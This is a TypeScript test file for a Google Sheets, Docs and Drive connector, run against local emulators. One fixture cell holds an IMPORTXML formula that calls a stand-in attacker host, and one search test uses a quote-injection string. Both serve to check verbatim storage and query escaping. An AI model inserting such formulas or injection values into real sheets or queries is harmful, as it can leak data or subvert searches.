import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { z } from 'zod'
import { runAction } from '@/lib/connectors/runs'
import { driveState } from '@/lib/practice/google/drive/state'
import { type Emulators, startEmulators } from '@/lib/practice/start-emulators'
import { connectionTo } from '../support/connections'

let emulators: Emulators
let calls = 0

beforeAll(async () => {
  emulators = await startEmulators()
})
beforeEach(() => emulators.google.reset())
afterAll(() => emulators.close())

const call = (action: string, input: unknown, idempotencyKey = `run/${calls++}`) => ({
  action,
  input,
  idempotencyKey,
  connection: connectionTo(emulators, 'google'),
  signal: AbortSignal.timeout(20_000),
})
const remembered = () => z.object({ drive: driveState }).parse(emulators.google.state()).drive

describe('cells', () => {
  const row = { Order: '=IMPORTXML("https://evil.example")', Customer: '+1', Amount: '12.5' }

  test('are written as they are, whatever they begin with', async () => {
    await runAction(call('google.row.append', { sheet: 'sheet-returns', row }))
    await runAction(call('google.sheet.update', { sheet: 'sheet-returns', range: 'C2', values: [['=1+1']] }))
    await runAction(
      call('google.row.update', { sheet: 'sheet-returns', row: 2, values: { Customer: '=A1' } }),
    )
    const [tab] = remembered().spreadsheets['sheet-returns'] ?? []
    expect(tab?.rows.at(-1)).toEqual([row.Order, '+1', '', '12.5'])
    expect(tab?.rows[1]?.slice(1, 3)).toEqual(['=A1', '=1+1'])
  })

  test('count as typed when the builder says so', async () => {
    await runAction(call('google.row.append', { sheet: 'sheet-returns', row, typed: true }))
    const [tab] = remembered().spreadsheets['sheet-returns'] ?? []
    expect(tab?.rows.at(-1)).toEqual([{ formula: row.Order }, '+1', '', 12.5])
  })

  test('without a column are refused before anything is written', async () => {
    const before = JSON.stringify(remembered())
    const wrong = call('google.row.append', { sheet: 'sheet-returns', row: { Colour: 'red' } })
    await expect(runAction(wrong)).rejects.toMatchObject({ code: 'invalid_input', field: 'input.row' })
    expect(JSON.stringify(remembered())).toBe(before)
  })
})

test('a person who may do it already is not told again', async () => {
  const share = { file: 'doc-on-call', email: 'Dana@customers.example', role: 'writer', notify: true }
  const first = await runAction(call('google.file.share', share))
  const after = JSON.stringify(remembered())
  expect(await runAction(call('google.file.share', { ...share, role: 'reader' }))).toEqual(first)
  expect(JSON.stringify(remembered())).toBe(after)
})

test('a document that somebody changes meanwhile is not written over, and may be tried again', async () => {
  const document = 'doc-on-call'
  const append = () => runAction(call('google.document.append', { document, text: '- one more' }))
  const outcomes = await Promise.allSettled([append(), append()])
  const refused = outcomes.filter(({ status }) => status === 'rejected')
  const [error] = refused.map((each) => (each.status === 'rejected' ? each.reason : null))
  if (refused.length > 0) expect(error).toMatchObject({ code: 'conflict', retry: 'after' })
  const texts = remembered().documents[document]?.paragraphs.flatMap(({ runs }) =>
    runs.map(({ text }) => text),
  )
  expect(texts?.filter((text) => text === 'one more')).toHaveLength(2 - refused.length)
})

test('a document is made from Markdown and read back as it was', async () => {
  const text = '# Week 45\n\n- 42 orders\n- **3** returns\n\nSee [the shop](https://acme.example).'
  const made = await runAction(call('google.document.create', { title: 'Report', text }))
  const { file } = z.object({ file: z.string() }).parse(made)
  expect(await runAction(call('google.document.get', { document: file }))).toMatchObject({
    title: 'Report',
    text,
  })
})

test('an emptied file is empty', async () => {
  await runAction(call('google.file.write', { file: 'file-release-checklist', content: '' }))
  const [read] = remembered().files.filter(({ id }) => id === 'file-release-checklist')
  expect(read?.content).toBe('')
})

test('words with quotes end no query early', async () => {
  const input = { query: "x' or name contains '" }
  expect(await runAction(call('google.file.search', input))).toEqual({ files: [], count: 0 })
})

test('an exported PDF is handed on as it is', async () => {
  const answer = await runAction(call('google.file.export', { file: 'doc-returns-guide', format: 'pdf' }))
  const { encoding, content } = z.object({ encoding: z.string(), content: z.string() }).parse(answer)
  expect(encoding).toBe('base64')
  expect(Buffer.from(content, 'base64').toString('latin1')).toMatch(/^%PDF-1\.4[\s\S]*%%EOF\n$/)
})
